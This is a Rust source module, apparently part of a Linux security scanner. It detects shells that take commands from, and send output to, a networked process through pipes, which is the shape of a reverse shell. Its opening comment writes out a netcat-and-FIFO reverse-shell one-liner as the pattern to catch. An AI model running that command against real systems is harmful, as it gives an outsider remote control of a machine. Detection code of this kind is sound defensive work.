//! Whether a shell is told over pipes what to do, and answers over pipes, by who is connected to another
//! computer: `mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT >f`.
//!
//! Both ways are followed, through what only hands on (cat, tee), until somebody has a connection. One
//! way alone is what people do: `curl URL | sh`, `sh | less`.

use std::collections::BTreeSet;
use std::sync::Arc;

use model::{Sign, Text, Trace, Untested};

use crate::linux::examine::channels::{Channel, Channels, Holder, is_one};
use crate::linux::examine::network_sockets::connection;
use crate::linux::examine::within::without_deleted;
use crate::linux::examine::{Kept, Machine, Subject, package};
use crate::parse::script::{Kind, called, file_name};

/// One less may stand in between.
const MOST_STEPS: usize = 4;
/// So many processes are asked for their connections.
const MOST_ASKED: usize = 64;

/// At the other end.
struct Far {
    subject: Subject,
    connection: Text,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Way {
    /// To the shell.
    In,
    Out,
}

pub(super) fn traces(subject: &Subject, kept: &mut Kept) -> Result<Vec<Trace>, Untested> {
    // Hardly anybody does, and nobody's files need to be looked through.
    let has_channels = is_one(subject, 0)? && (is_one(subject, 1)? || is_one(subject, 2)?);
    if !has_channels || !reads_commands(subject)? {
        return Ok(Vec::new());
    }
    let machine = Arc::clone(&kept.machine);
    let channels = kept.channels.current(&machine)?;
    let input = channels.at(subject, 0)?;
    let output = match channels.at(subject, 1)? {
        Some(output) => Some(output),
        None => channels.at(subject, 2)?,
    };
    let (Some(input), Some(output)) = (input, output) else {
        return Ok(Vec::new());
    };
    let search = Search {
        subject,
        channels,
        machine: &machine,
    };
    let Some(from) = search.far(input, Way::In)? else {
        return Ok(Vec::new());
    };
    let Some(to) = search.far(output, Way::Out)? else {
        return Ok(Vec::new());
    };
    let mut traces = vec![trace(&from, kept)];
    if from.subject.pid() != to.subject.pid() {
        traces.push(trace(&to, kept));
    }
    Ok(traces)
}

/// Whether it is a shell, or an interpreter, that was told no text and no file to run.
fn reads_commands(subject: &Subject) -> Result<bool, Untested> {
    let program = without_deleted(subject.program()?.link.bytes());
    let called = called(file_name(program), subject.arguments()?);
    Ok(called.is_some_and(|it| it.reads_input && it.kind != Kind::Loader))
}

struct Search<'of> {
    subject: &'of Subject,
    channels: &'of Channels,
    machine: &'of Machine,
}

impl Search<'_> {
    /// Who has a connection and is at the other end. `None`: nobody.
    ///
    /// Errors: not all could be looked at.
    fn far(&self, begin: Channel, way: Way) -> Result<Option<Far>, Untested> {
        let mut untested = None;
        let mut met = BTreeSet::from([self.subject.pid()]);
        let mut front = vec![begin];
        for _ in 0..MOST_STEPS {
            let mut next = Vec::new();
            for channel in front {
                let mut is_held = false;
                for holder in self.channels.holders(channel) {
                    let is_far = match way {
                        Way::In => holder.writes,
                        Way::Out => holder.reads,
                    };
                    is_held |= is_far;
                    if !is_far || !met.insert(holder.pid) {
                        continue;
                    }
                    if met.len() > MOST_ASKED {
                        return Err(Untested::TooLarge);
                    }
                    let Ok(other) = Subject::find(self.machine.proc(), holder.pid) else {
                        continue;
                    };
                    match connection(&other) {
                        Ok(Some(connection)) => {
                            let subject = other;
                            return Ok(Some(Far {
                                subject,
                                connection,
                            }));
                        }
                        Ok(None) | Err(Untested::Ended) => {}
                        Err(why) => untested = Some(why),
                    }
                    next.extend(self.handed_on(&other, way));
                }
                if !is_held {
                    // Whoever is there may not be looked into.
                    untested = untested.or(self.channels.untested());
                }
            }
            front = next;
        }
        untested.map_or(Ok(None), Err)
    }
}

impl Search<'_> {
    /// From where, or to where, somebody in between may hand it on: its own standard input or output, and
    /// the FIFOs that it has opened for that. Other pipes are often only inherited.
    fn handed_on(&self, between: &Subject, way: Way) -> Vec<Channel> {
        let (number, fits): (u32, fn(&Holder) -> bool) = match way {
            Way::In => (0, |it| it.reads && !it.writes),
            Way::Out => (1, |it| it.writes && !it.reads),
        };
        let fifos = self.channels.fifos(between.pid()).iter();
        let fifos = fifos.filter(|(_, holder)| fits(holder));
        let mut found: Vec<_> = fifos.map(|(channel, _)| *channel).collect();
        found.extend(self.channels.at(between, number).unwrap_or(None));
        found
    }
}

/// With the package of its program, where that is of one.
fn trace(far: &Far, kept: &mut Kept) -> Trace {
    let program = far.subject.program().ok();
    let path = program.map(|it| it.link.clone());
    let package = path.as_ref().and_then(|path| {
        let owner = package::owner(&far.subject, path.bytes(), kept);
        owner.unwrap_or(None)
    });
    Trace {
        path,
        package,
        pid: Some(far.subject.pid()),
        name: Some(far.connection.clone()),
        ..Trace::new(Sign::ShellOverPipe)
    }
}
